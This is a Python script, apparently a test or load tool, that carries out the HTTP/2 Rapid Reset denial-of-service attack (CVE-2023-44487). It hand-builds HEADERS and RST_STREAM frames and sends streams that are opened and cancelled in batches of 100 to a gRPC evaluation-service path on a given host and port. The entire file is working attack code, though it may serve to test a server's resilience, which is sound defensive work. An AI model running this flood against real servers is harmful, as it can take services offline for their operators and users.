"""A client that opens streams and resets each at once, faster than any server answers them (CVE-2023-44487).

Run in a process of its own: `python stream_resetter.py HOST PORT COUNT`.
"""

import socket
import struct
import sys
import threading

from http2_stub import CANCEL, END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS

_AT_A_TIME = 100


def main(host: str, port: int, count: int) -> None:
    connection = socket.create_connection((host, port))
    threading.Thread(target=_read_all, args=[connection], daemon=True).start()
    connection.sendall(PREFACE + _frame(SETTINGS, 0, 0))
    for first in range(0, count, _AT_A_TIME):
        connection.sendall(b"".join(_opened_and_reset(2 * number + 1) for number in range(first, first + _AT_A_TIME)))


def _opened_and_reset(stream: int) -> bytes:
    return _frame(HEADERS, END_HEADERS, stream, _HEADERS) + _frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _header(name: bytes, value: bytes) -> bytes:
    """Return a header as HPACK writes it where nothing is to be remembered (RFC 7541, 6.2.2)."""
    return b"".join((b"\0", bytes([len(name)]), name, bytes([len(value)]), value))


_POST, _HTTP = b"\x83", b"\x86"  # from the table that both sides have
_HEADERS = (
    _POST
    + _HTTP
    + _header(b":path", b"/evalrpc.v1.EvaluationService/GetJob")
    + _header(b":authority", b"localhost")
    + _header(b"content-type", b"application/grpc")
    + _header(b"te", b"trailers")
)


def _read_all(connection: socket.socket) -> None:
    while connection.recv(65536):
        pass


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
